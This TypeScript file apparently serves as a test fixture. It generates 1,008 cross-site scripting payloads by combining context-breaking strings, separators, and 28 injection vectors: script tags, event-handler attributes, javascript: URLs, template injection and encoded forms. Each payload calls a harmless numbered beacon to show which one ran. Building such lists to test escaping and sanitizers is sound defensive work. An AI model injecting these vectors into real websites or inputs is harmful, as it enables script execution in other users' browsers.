/** What a script would be hidden in. `sep` stands between a tag and its attribute, `n` says which one ran. */
type Vector = (sep: string, n: number) => string;

const run = (n: number) => `top.ran(${n})`;

const VECTORS: readonly Vector[] = [
  (_, n) => `<script>${run(n)}</script>`,
  (_, n) => `<ScRiPt>${run(n)}</sCrIpT>`,
  (s, n) => `<script${s}x>${run(n)}</script>`,
  (s, n) => `<img${s}src=x${s}onerror=${run(n)}>`,
  (s, n) => `<IMG${s}SRC=x${s}OnErRoR="${run(n)}">`,
  (s, n) => `<svg${s}onload=${run(n)}>`,
  (_, n) => `<svg><script>${run(n)}</script></svg>`,
  (s, n) => `<svg><animate${s}onbegin=${run(n)}${s}attributeName=x${s}dur=1s>`,
  (s, n) => `<body${s}onload=${run(n)}>`,
  (s, n) => `<iframe${s}onload=${run(n)}>`,
  (s, n) => `<iframe${s}src="javascript:${run(n)}">`,
  (s, n) => `<iframe${s}srcdoc="<script>${run(n)}</script>">`,
  (s, n) => `<details${s}open${s}ontoggle=${run(n)}>x`,
  (s, n) => `<video><source${s}onerror=${run(n)}${s}src=x></video>`,
  (s, n) => `<audio${s}src=x${s}onerror=${run(n)}>`,
  (s, n) => `<style${s}onload=${run(n)}></style>`,
  (s, n) => `<link${s}rel=stylesheet${s}href=x${s}onerror=${run(n)}>`,
  (s, n) => `<input${s}autofocus${s}onfocus=${run(n)}>`,
  (s, n) => `<a${s}href="javascript:${run(n)}">x</a>`,
  (s, n) => `<form${s}action="javascript:${run(n)}"><button>x`,
  (s, n) => `<math><mtext><img${s}src=x${s}onerror=${run(n)}>`,
  (s, n) => `"${s}onfocus=${run(n)}${s}autofocus${s}x="`,
  (s, n) => `'${s}onmouseover='${run(n)}`,
  (_, n) => `javascript:${run(n)}//`,
  (_, n) => `{{constructor.constructor('${run(n)}')()}}`,
  (_, n) => `&lt;script&gt;${run(n)}&lt;/script&gt;`,
  (_, n) => `%3Cscript%3E${run(n)}%3C/script%3E`,
  (_, n) => `\\u003cscript\\u003e${run(n)}`,
];

/** What would close the place where the text stands. */
const BREAKERS = ['', '">', "'>", '-->', '</p>', '</title>', '</script>', '</label>', ']]>'];
const SEPARATORS = [' ', '/', '\t', '\n'];

/** 1,008 texts that would run a script, each saying its own number, on a page that shows what was typed as it is. */
export const PAYLOADS: readonly string[] = BREAKERS.flatMap((breaker) =>
  SEPARATORS.flatMap((sep) => VECTORS.map((vector) => ({ breaker, sep, vector }))),
).map(({ breaker, sep, vector }, n) => breaker + vector(sep, n));
